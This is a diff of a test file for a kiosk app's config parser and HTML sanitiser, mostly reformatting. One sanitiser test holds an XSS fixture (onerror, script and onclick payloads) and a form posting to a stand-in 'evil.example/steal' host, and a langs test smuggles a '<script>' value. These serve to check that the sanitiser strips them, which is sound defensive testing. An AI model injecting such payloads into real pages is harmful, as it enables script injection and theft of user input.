@@ -10,13 +10,26 @@ const SITE = ['en', 'ro', 'uk', 'ru', 'ar'];
 describe('parseKioskConfig', () => {
   it('gives the defaults for an empty query', () => {
     expect(parseKioskConfig('', SITE)).toEqual({ config: DEFAULT_KIOSK_CONFIG, problems: [] });
-    expect(DEFAULT_KIOSK_CONFIG).toMatchObject({ idleSeconds: 60, countdownSeconds: 10, languages: [], orientation: 'auto' });
+    expect(DEFAULT_KIOSK_CONFIG).toMatchObject({
+      idleSeconds: 60,
+      countdownSeconds: 10,
+      languages: [],
+      orientation: 'auto',
+    });
   });
 
   it('takes every whitelisted setting within its bounds', () => {
-    const { config, problems } = parseKioskConfig('?idle=90&countdown=15&langs=uk,ro&orientation=portrait', SITE);
+    const { config, problems } = parseKioskConfig(
+      '?idle=90&countdown=15&langs=uk,ro&orientation=portrait',
+      SITE,
+    );
     expect(problems).toEqual([]);
-    expect(config).toEqual({ idleSeconds: 90, countdownSeconds: 15, languages: ['uk', 'ro'], orientation: 'portrait' });
+    expect(config).toEqual({
+      idleSeconds: 90,
+      countdownSeconds: 15,
+      languages: ['uk', 'ro'],
+      orientation: 'portrait',
+    });
   });
 
   it('accepts the bounds themselves and nothing outside them', () => {
@@ -29,10 +42,12 @@ describe('parseKioskConfig', () => {
       expect(problems, bad).toHaveLength(1);
       expect(problems[0]).toContain(`from ${min} to ${max}`);
     }
-    expect(parseKioskConfig('countdown=2', SITE).config.countdownSeconds).toBe(KIOSK_BOUNDS.countdown.fallback);
+    expect(parseKioskConfig('countdown=2', SITE).config.countdownSeconds).toBe(
+      KIOSK_BOUNDS.countdown.fallback,
+    );
   });
 
-  it('keeps only the site\'s languages, once each, and says which were left out', () => {
+  it("keeps only the site's languages, once each, and says which were left out", () => {
     const { config, problems } = parseKioskConfig('langs=UK, xx ,ro,uk,<script>', SITE);
     expect(config.languages).toEqual(['uk', 'ro']);
     expect(problems).toHaveLength(1);
@@ -68,14 +83,17 @@ describe('featuredFirst', () => {
 
 describe('kiosk rendering helpers', () => {
   it('keeps the text of links but not the links', () => {
-    expect(withoutLinks('<p>Call <a href="tel:112">112</a> or see <A HREF="https://x.example" rel="noreferrer">this</A>.</p>')).toBe(
-      '<p>Call 112 or see this.</p>',
-    );
+    expect(
+      withoutLinks(
+        '<p>Call <a href="tel:112">112</a> or see <A HREF="https://x.example" rel="noreferrer">this</A>.</p>',
+      ),
+    ).toBe('<p>Call 112 or see this.</p>');
     expect(withoutLinks('<p>No links</p>')).toBe('<p>No links</p>');
   });
 
   it('lets no other way out through either: forms, frames, scripts and handlers are removed', () => {
-    const hostile = '<p>Tap <img src="x" onerror="alert(1)"><script>alert(1)</script><b onclick="alert(1)">here</b></p><form action="https://evil.example/steal"><input name="q"><button>Send</button></form><iframe src="https://evil.example"></iframe>';
+    const hostile =
+      '<p>Tap <img src="x" onerror="alert(1)"><script>alert(1)</script><b onclick="alert(1)">here</b></p><form action="https://evil.example/steal"><input name="q"><button>Send</button></form><iframe src="https://evil.example"></iframe>';
     expect(withoutLinks(hostile)).toBe('<p>Tap <b>here</b></p>');
   });
 
